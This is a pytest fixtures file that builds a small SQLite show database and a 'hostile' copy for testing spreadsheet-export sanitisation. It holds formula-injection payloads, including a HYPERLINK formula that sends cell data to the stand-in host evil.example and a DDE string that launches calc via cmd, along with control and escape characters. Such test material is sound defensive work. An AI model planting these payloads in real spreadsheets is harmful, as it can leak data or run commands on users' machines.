"""Fixtures the export tests share: the tiny fixture show, built once per run and copied per test."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from .conftest import FIXTURES


@pytest.fixture(scope="session")
def tiny_db_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from cuesheet.files.build import build

    path = tmp_path_factory.mktemp("tiny") / "tiny.sqlite"
    build(FIXTURES / "exportshow", path)
    return path


@pytest.fixture
def tiny_db(tiny_db_file: Path, tmp_path: Path) -> Path:
    """A private copy of tests/fixtures/exportshow built into a database."""
    path = tmp_path / "tiny.sqlite"
    shutil.copy(tiny_db_file, path)
    return path


# Text a spreadsheet would run or mangle, put where an export writes it (issue #15).
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "+cmd|'/C calc'!A0"
SUM = "-2+3"
MENTION = "@SUM(1+1)"


@pytest.fixture
def hostile_db(tiny_db: Path) -> Path:
    """The tiny show with formulas for titles and artists, and control characters inside cells."""
    import sqlite3

    conn = sqlite3.connect(tiny_db)
    with conn:
        conn.execute("UPDATE recordings SET title = ?, album = ? WHERE title = 'Smile'",
                     [HYPERLINK, "Smile\tDeluxe\r\nEdition"])
        conn.execute("UPDATE recordings SET artist = ? WHERE title = 'Morning View'", [CALC])
        conn.execute("UPDATE cue_songs SET title = ?, artist = ? WHERE title LIKE 'Tiny%'", [SUM, MENTION])
        conn.execute("UPDATE cue_songs SET title = ?, text = ? WHERE coalesce(title, text) LIKE 'deep in a dream%'",
                     ["\tdeep in\ta dream\x00\x1b[31m"] * 2)
        conn.execute("UPDATE episodes SET title = ? WHERE number = 1", ["\rPilot\u2028Rain"])
    conn.close()
    return tiny_db
